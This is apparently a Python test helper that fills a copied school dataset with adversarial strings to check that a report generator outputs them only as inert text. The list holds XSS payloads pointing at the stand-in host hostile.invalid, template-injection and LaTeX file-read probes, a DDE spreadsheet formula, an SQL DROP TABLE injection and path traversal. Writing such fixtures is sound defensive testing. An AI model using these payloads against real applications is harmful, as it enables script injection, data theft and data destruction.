"""A school all of whose words are hostile: markup, code, formulas, letters that mislead."""

from __future__ import annotations

import csv
import json
import shutil
import tomllib
from collections.abc import Iterable, Iterator, Mapping, Sequence
from datetime import date
from pathlib import Path
from typing import Any

from helpers.schemas import TABLES, Column, Kind

AWAY = "https://hostile.invalid"
OWNED = "document.title=window.owned='yes'"

_MARKUP = (
    f"<script>{OWNED}</script>",
    f"<SCRIPT SRC={AWAY}/a.js></SCRIPT>",
    f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    f"</script><script>{OWNED}</script>",
    f"</style><script>{OWNED}</script>",
    f"</title><script>{OWNED}</script>",
    f"</textarea><script>{OWNED}</script>",
    f"--><script>{OWNED}</script><!--",
    f"]]><script>{OWNED}</script><![CDATA[",
    f"<img src=x onerror={OWNED}>",
    f'"><img src=x onerror="{OWNED}">',
    f'\'><img src=x onerror="{OWNED}">',
    f"<img src='{AWAY}/pixel.png'>",
    f"<img srcset='{AWAY}/2x.png 2x'>",
    f"<svg onload={OWNED}>",
    f"<svg><script>{OWNED}</script></svg>",
    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src='{AWAY}'></iframe></foreignObject></svg>",
    f"<svg><use href='{AWAY}/a.svg#x'/></svg>",
    f"<math><mtext><script>{OWNED}</script></mtext></math>",
    f"<math href='javascript:{OWNED}'>x</math>",
    f"<body onload={OWNED}>",
    f"<input onfocus={OWNED} autofocus>",
    f"<select onfocus={OWNED} autofocus>",
    f"<details open ontoggle={OWNED}>",
    f"<video><source onerror={OWNED}></video>",
    f"<audio src=x onerror={OWNED}>",
    f"<marquee onstart={OWNED}>",
    f"<object data='javascript:{OWNED}'></object>",
    f"<embed src='{AWAY}/a.swf'>",
    f"<iframe srcdoc='<script>parent.{OWNED}</script>'></iframe>",
    f"<iframe src='javascript:parent.{OWNED}'></iframe>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv='refresh' content='0;url={AWAY}'>",
    f"<link rel='stylesheet' href='{AWAY}/a.css'>",
    f"<link rel='prefetch' href='{AWAY}/next'>",
    f"<style>@import '{AWAY}/a.css';</style>",
    f"<style>main {{ display: none }} body {{ background: url({AWAY}/b.png) }}</style>",
    f"<div style='background:url({AWAY}/c.png)'>ground</div>",
    f"<form action='{AWAY}'><button>Go</button></form>",
    f"<button formaction='javascript:{OWNED}'>Go</button>",
    f"<a href='javascript:{OWNED}'>a link</a>",
    f"<a href='data:text/html,<script>{OWNED}</script>'>data</a>",
    f"<template><script>{OWNED}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'></noscript>",
    "<!-- a comment that never ends",
    "<!DOCTYPE html><html><head>",
    "<plaintext>",
    "<xmp>",
    "<table><tr><td>",
    "</td></tr></table></main></body></html>",
    "</div></div></section></main>",
    "</blockquote></li></ul>",
    "</li></ul></details></figure>",
    "<h1>A second title</h1>",
    "<main id=main>another main</main>",
    '<p id="in-brief">an id that is taken</p>',
    "<br/><hr/><input/>",
    "<a b=' c",
    "< script >not quite< /script >",
)
_MARKDOWN = (
    f"[click](javascript:{OWNED})",
    f"[click](JaVaScRiPt:{OWNED})",
    f"[click](java\tscript:{OWNED})",
    f"[click](&#106;avascript:{OWNED})",
    "[click](data:text/html;base64,PHNjcmlwdD4)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//hostile.invalid/x)",
    f"![picture]({AWAY}/d.png)",
    f"![picture][ref]\n\n[ref]: {AWAY}/e.png",
    f'![x" onerror="{OWNED}](y)',
    f"<javascript:{OWNED}>",
    f'[link](https://example.org "title" onclick={OWNED}")',
    "# A heading\n\n###### Far below",
    "```html\n<script>code</script>\n```",
    "`<b>code</b>`",
    "| a | b |\n|---|---|\n| <i>c</i> | d |",
    "***",
    "> > > > > > > > quoted deeply",
    "- [ ] a box\n- [x] another",
    "[^1]\n\n[^1]: a footnote",
    "**bold *both _all",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# a comment #}",
    "{% raw %}{{ x }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{school} %s %(name)s {0}",
    "$E = mc^2$",
    "$$\\int_0^1 x\\,dx$$",
    "\\(\\alpha\\) \\[\\beta\\]",
    "\\input{/etc/passwd}",
    "\\href{javascript:x}{maths}",
    "$\\unclosed{",
    "a_b^c & d # e ~ f",
    "C:\\new\\table",
    "\\u0041\\x41\\n",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://hostile.invalid","see")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '=IMPORTXML("https://hostile.invalid","//a")',
)
_LETTERS = (
    "\u202egnp.exe reversed\u202c",
    "\u2066isolated\u2069",
    "\u200fright \u200eleft",
    "zero\u200bwidth\u200cjoin\u200ders\ufeff",
    "soft\u00adhyphen",
    "bell\u0007 escape\u001b[31m delete\u007f",
    "next\u0085line \u009b31m",
    "line\u2028separator\u2029",
    "no\ufffecharacter \uffff",
    "private\ue000use",
    "tags\U000e0041\U000e007f",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1ec\U0001f1e7",
    "العربية עברית",
    "漢字かな交じり文",
    "ﷺ ﬀ ǅ İ ı ß ſ",
    "W" * 180,
    "https://hostile.invalid/" + "long-" * 40,
    "a\u00a0b\u2009c\u3000d",
    "' OR 1=1; DROP TABLE staff; --",
    "&lt;b&gt; &amp;amp; &#60;i&#62; &notit; &",
    "&#x1F;&#0;&#xD800;",
    "null undefined NaN None True",
    "\"quoted\" 'single' `tick` “curly”",
    "../../../etc/passwd",
    "CON NUL aux.txt",
)
STRINGS = (*_MARKUP, *_MARKDOWN, *_TEMPLATES, *_FORMULAS, *_LETTERS)
"""Every one of them must come out as text, or not at all."""

_NO_WORDS = {
    "questionnaire_items.scale",
    "benchmarks.measure",
    "benchmarks.pupil_group",
    "photographs.file",
}
"""Names of presets, of columns and of a file: no place for words of one's own."""

_SAME = {
    "questionnaires.respondent_id": "staff.staff_id",
    "objectives.respondent_id": "staff.staff_id",
    "questionnaires.item": "questionnaire_items.item",
    **dict.fromkeys(
        ("workshops.skill", "observations.focus", "sessions.focus", "work_scrutiny.criterion"),
        "audit.skill",
    ),
    **dict.fromkeys(
        ("observations.subject", "work_scrutiny.subject", "benchmarks.subject"), "progress.subject"
    ),
}
"""Columns that speak of the same things, so that what belongs together stays together."""

_PEOPLE = {"staff.staff_id", "staff.name"}

Turned = Mapping[str, Mapping[str, str]]
"""For each kind of word (``audit.skill``), what each of the school's becomes."""


def hostile_school(source: Path, place: Path, *, people: bool) -> Path:
    """A copy of a school in which every text column holds every one of :data:`STRINGS`.

    Where a column has fewer different values than there are strings, each value holds several.
    Staff keep their ids and names unless ``people``: a redactor would blot their words out.
    """
    shutil.copytree(source, place)
    tables = {name: _read(place / f"{name}.csv") for name in TABLES}
    turned = _turned(tables, people)
    for name, (head, *rows) in tables.items():
        for column in TABLES[name].columns:
            kind = kind_of(name, column)
            if column.name in head and kind and (people or kind not in _PEOPLE):
                _fill(rows, head.index(column.name), turned.get(kind))
        _write(place / f"{name}.csv", [head, *rows])
    _settings(place / "programme.toml", turned)
    _narrative(place / "narrative")
    _packs(place / "partner_findings", turned["partners.partner_id"])
    return place


def shared_out(values: Sequence[str]) -> dict[str, str]:
    """Hostile words for each value: all strings used, no two values alike."""
    count = len(values)
    if count > len(STRINGS):
        return {one: f"{STRINGS[at % len(STRINGS)]} {at}" for at, one in enumerate(values)}
    return {one: " ".join(STRINGS[at::count]) for at, one in enumerate(values)}


def _turned(tables: Mapping[str, list[list[str]]], people: bool) -> Turned:
    """What each name becomes. The strings are shared out among those that have a row of their
    own (staff, say), and once more among those that only occur (respondents' own codes)."""
    own: dict[str, list[str]] = {}
    other: dict[str, list[str]] = {}
    for name, (head, *rows) in tables.items():
        for column in TABLES[name].columns:
            kind = kind_of(name, column)
            if not kind or column.free_text or (kind in _PEOPLE and not people):
                continue
            at = head.index(column.name) if column.name in head else None
            words = list(dict.fromkeys(row[at] for row in rows if at is not None and row[at]))
            (own if kind == f"{name}.{column.name}" else other).setdefault(kind, []).extend(words)
    return {
        kind: {one: f"{words} ~" for one, words in shared_out(other.get(kind, [])).items()}
        | shared_out(words)
        for kind, words in own.items()
        if words
    }


def kind_of(table: str, column: Column) -> str:
    """What a column of words speaks of; blank for a column that holds none."""
    place = f"{table}.{column.name}"
    if column.kind not in (Kind.ID, Kind.TEXT) or place in _NO_WORDS:
        return ""
    return column.refers_to or _SAME.get(place, place)


def _fill(rows: list[list[str]], at: int, turned: Mapping[str, str] | None) -> None:
    """A column of names by what stood there; a column of free words, or of none, row by row."""
    if turned:
        for row in rows:
            row[at] = turned.get(row[at], row[at])
        return
    for row, words in zip(rows, shared_out(list(map(str, range(len(rows))))).values(), strict=True):
        row[at] = words


def _settings(file: Path, turned: Turned) -> None:
    """Every sentence and every name in the settings."""
    settings = tomllib.loads(file.read_text(encoding="utf-8"))
    for name, words in shared_out(
        [one for one in settings if isinstance(settings[one], str)]
    ).items():
        settings[name] = words
    for kind, key in (("terms", "name"), ("objectives", "wording"), ("questionnaires", "name")):
        for one, words in zip(
            settings[kind], shared_out(list(map(str, settings[kind]))).values(), strict=True
        ):
            one[key] = words
    for one in settings["objectives"]:
        one["id"] = _as_read(turned["objectives.objective"][one["id"]])
    for one in settings["questionnaires"]:
        one["id"] = _as_read(turned["questionnaire_items.questionnaire"][one["id"]])
    ids = turned.get("staff.staff_id", {})
    for name in ("facilitators", "not_taking_part"):
        named = settings["planning"].get(name, ())
        settings["planning"][name] = [_as_read(ids.get(one, one)) for one in named]
    skills = settings["scales"]["skills"]
    skills["labels"] = [*shared_out(skills["labels"]).values()]
    file.write_text(_toml(settings), encoding="utf-8")


def _as_read(cell: str) -> str:
    """A cell without the letters that the reader of tables takes out for Excel's sake."""
    return cell.replace("\xa0", " ").replace("\ufeff", "").replace("\u200b", "")


def _toml(settings: Mapping[str, Any]) -> str:
    """Settings as TOML; its strings are JSON's, apart from the letter that deletes."""
    plain = {one: told for one, told in settings.items() if not isinstance(told, dict | list)}
    lines = [f"{one} = {_value(told)}" for one, told in plain.items()]
    for name, told in settings.items():
        if isinstance(told, dict):
            lines += [f"[{name}]" if told else "", *_nested(name, told)]
        elif isinstance(told, list):
            for one in told:
                lines += [f"[[{name}]]", *(f"{key} = {_value(word)}" for key, word in one.items())]
    return "\n".join(lines) + "\n"


def _nested(name: str, table: Mapping[str, Any]) -> Iterator[str]:
    yield from (
        f"{key} = {_value(word)}" for key, word in table.items() if not isinstance(word, dict)
    )
    for key, inner in table.items():
        if isinstance(inner, dict):
            yield f"[{name}.{key}]"
            yield from (f"{one} = {_value(word)}" for one, word in inner.items())


def _value(told: Any) -> str:
    if isinstance(told, date):
        return told.isoformat()
    if isinstance(told, list):
        return f"[{', '.join(map(_value, told))}]"
    # JSON writes a letter past U+FFFF as two halves, which TOML does not know.
    return json.dumps(told, ensure_ascii=False).replace("\x7f", "\\u007f")


def _narrative(folder: Path) -> None:
    """Each string a paragraph, and all in one."""
    words = "\n\n".join((*STRINGS, " ".join(STRINGS)))
    for file in folder.rglob("*.md"):
        file.write_text(words, encoding="utf-8")


def _packs(folder: Path, turned: Mapping[str, str]) -> None:
    """What partners sent: every word of it but the names of the kinds of finding."""
    for file in folder.glob("*.json"):
        pack = json.loads(file.read_text(encoding="utf-8"))
        pack["school"] = " ".join(STRINGS) + " nought \0 and half a letter \ud800"
        pack["partner_id"] = turned[pack["partner_id"]]
        for finding in pack["findings"]:
            finding["question"] = finding["predicate"] = " ".join(STRINGS)
        file.write_text(json.dumps(pack), encoding="utf-8")


def _read(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return [*csv.reader(opened)]


def _write(file: Path, rows: Iterable[Sequence[str]]) -> None:
    with file.open("w", encoding="utf-8", newline="") as opened:
        csv.writer(opened).writerows(rows)
